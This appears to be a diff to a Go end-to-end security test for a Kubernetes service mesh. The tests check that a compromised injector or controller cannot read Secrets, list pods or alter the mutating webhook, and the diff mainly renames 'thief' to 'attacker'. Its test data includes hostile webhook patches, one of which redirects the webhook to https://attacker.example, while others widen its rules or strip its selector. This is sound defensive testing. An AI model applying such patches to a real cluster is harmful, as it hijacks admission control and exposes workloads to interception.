@@ -50,7 +50,7 @@ func ours() map[string]string {
 
 // fence tries, with a stolen controller's rights, to get at Secrets that are none of its business.
 func (s *story) fence(t *testing.T) {
-	namespace := s.district(t, "e2e-fence")
+	namespace := s.meshNamespace(t, "e2e-fence")
 	admin := s.kube.CoreV1().Secrets(namespace)
 	for _, secret := range []*corev1.Secret{
 		{ObjectMeta: metav1.ObjectMeta{Name: "password"}, StringData: map[string]string{"password": "12345"}},
@@ -74,10 +74,10 @@ func (s *story) fence(t *testing.T) {
 	t.Run("webhook", func(t *testing.T) { s.tryWebhook(t) })
 }
 
-// tryInjector goes, with an injector's rights, for the root, for Secrets, pods and the webhook.
+// tryInjector tries, with an injector's rights, to reach the root, Secrets, pods and the webhook.
 func (s *story) tryInjector(t *testing.T) {
-	thief := s.as(t, api.AppInjector)
-	own := thief.CoreV1().Secrets(api.DefaultNamespace)
+	attacker := s.as(t, api.AppInjector)
+	own := attacker.CoreV1().Secrets(api.DefaultNamespace)
 	named := metav1.ListOptions{FieldSelector: "metadata.name=" + api.InjectorCertificateSecret}
 	if list, err := own.List(t.Context(), named); err != nil || len(list.Items) != 1 || len(list.Items[0].Data[corev1.TLSPrivateKeyKey]) == 0 {
 		t.Errorf("read its own certificate: %v", err)
@@ -93,11 +93,11 @@ func (s *story) tryInjector(t *testing.T) {
 			return err
 		},
 		"list pods": func(ctx context.Context) error {
-			_, err := thief.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
+			_, err := attacker.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
 			return err
 		},
 		"patch the webhook": func(ctx context.Context) error {
-			_, err := thief.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, api.WebhookConfigName(api.DefaultMeshName), types.MergePatchType, []byte(`{}`), metav1.PatchOptions{})
+			_, err := attacker.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, api.WebhookConfigName(api.DefaultMeshName), types.MergePatchType, []byte(`{}`), metav1.PatchOptions{})
 			return err
 		},
 	} {
@@ -113,8 +113,8 @@ func (s *story) tryWebhook(t *testing.T) {
 	for _, patch := range []string{
 		`[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}]`,
 		`[{"op":"remove","path":"/webhooks/0/namespaceSelector"}]`,
-		`[{"op":"remove","path":"/webhooks/0/clientConfig/service"},{"op":"add","path":"/webhooks/0/clientConfig/url","value":"https://thief.example"}]`,
-		`[{"op":"add","path":"/metadata/labels/thief","value":"x"}]`,
+		`[{"op":"remove","path":"/webhooks/0/clientConfig/service"},{"op":"add","path":"/webhooks/0/clientConfig/url","value":"https://attacker.example"}]`,
+		`[{"op":"add","path":"/metadata/labels/attacker","value":"x"}]`,
 		`[{"op":"remove","path":"/webhooks/0"}]`,
 	} {
 		for _, dry := range [][]string{nil, {metav1.DryRunAll}} {
